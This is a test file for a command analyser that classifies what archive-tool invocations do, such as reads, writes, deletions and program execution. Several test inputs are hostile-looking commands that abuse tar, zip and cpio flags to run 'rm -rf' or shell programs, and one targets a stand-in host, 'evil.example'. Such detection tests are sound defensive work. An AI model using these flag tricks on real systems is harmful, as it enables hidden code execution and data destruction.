import { describe, expect, it } from "vitest";
import { archiveTools } from "./archives.ts";
import { deeds } from "./given.fixture.ts";

const cases: Readonly<Record<string, readonly string[]>> = {
  "tar czf backup.tgz src/": ["write backup.tgz", "read src/"],
  "tar xzf a.tgz": ["read a.tgz", "write ."],
  "tar xf a.tar -C /etc": ["read a.tar", "write /etc"],
  "tar -C / -xf a.tar": ["read a.tar", "write /"],
  "tar -xPf x.tar": ["read x.tar", "write .", "overwrite-system"],
  "tar -tvf x.tar": ["read x.tar"],
  "tar --list -f x.tar": ["read x.tar"],
  "tar -xOf x.tar a": ["read x.tar"],
  "tar --remove-files -czf old.tgz old/": ["delete-recursive", "write old.tgz", "read old/"],
  "tar cf a.tar x --checkpoint=1 --checkpoint-action=exec='rm -rf x'": ["write a.tar", "program rm -rf x", "read x"],
  "tar cf a.tar x --checkpoint=1 --checkpoint-action exec=sh": ["write a.tar", "program sh", "read x"],
  "tar xf a.tar --to-command='rm -rf x'": ["shell rm -rf x", "read a.tar", "write ."],
  "tar xf a.tar --to-com=sh": ["shell sh", "read a.tar", "write .", "exec-unseen"],
  "tar xf a.tar -I ./evil": ["program ./evil", "read a.tar", "write ."],
  "tar cfI a.tar ./evil x": ["program ./evil", "write a.tar", "read x"],
  "tar xf a.tar --use-comp=./evil": ["program ./evil", "read a.tar", "write ."],
  "tar cf evil.example:a.tar --rsh-command=./evil x": ["program ./evil", "remote write evil.example:a.tar", "read x"],
  "tar cf - src": ["read src"],
  "gzip -9 a": ["write a"],
  "gzip -dc a.gz": ["show a.gz"],
  "xz -l a.xz": ["read a.xz"],
  "zstd -T0 a -o b": ["write b", "write a"],
  "zip -r a.zip src": ["write a.zip", "read src"],
  "zip -rm a.zip src": ["delete-recursive", "write a.zip", "read src"],
  "zip a.zip x -T -TT 'rm -rf x'": ["shell rm -rf x", "write a.zip", "read x", "read rm -rf x"],
  "unzip a.zip": ["read a.zip", "write ."],
  "unzip -q a.zip -d /usr": ["read a.zip", "write /usr"],
  "unzip -l a.zip": ["read a.zip"],
  "7z x a.7z -opath": ["read a.7z", "write path"],
  "7z a a.7z src -sdel": ["delete-recursive", "write a.7z", "read src"],
  "7z l a.7z": ["read a.7z"],
  "unrar x a.rar /etc/": ["read a.rar", "write /etc/"],
  "cpio -idmv": ["write ."],
  "cpio -pdm /etc": ["write /etc"],
  "cpio -o --rsh-command=./evil -F x:a": ["program ./evil", "write x:a"],
  "ar rcs lib.a a.o": ["write lib.a"],
  "ar -t lib.a": ["read lib.a"],
  "unshar x.shar": ["shell script x.shar"],
};

describe("the deeds of archive tools", () => {
  it.each(Object.entries(cases))("are known for: %s", (line, expected) => {
    expect(deeds(archiveTools, line)).toEqual(expected);
  });
});
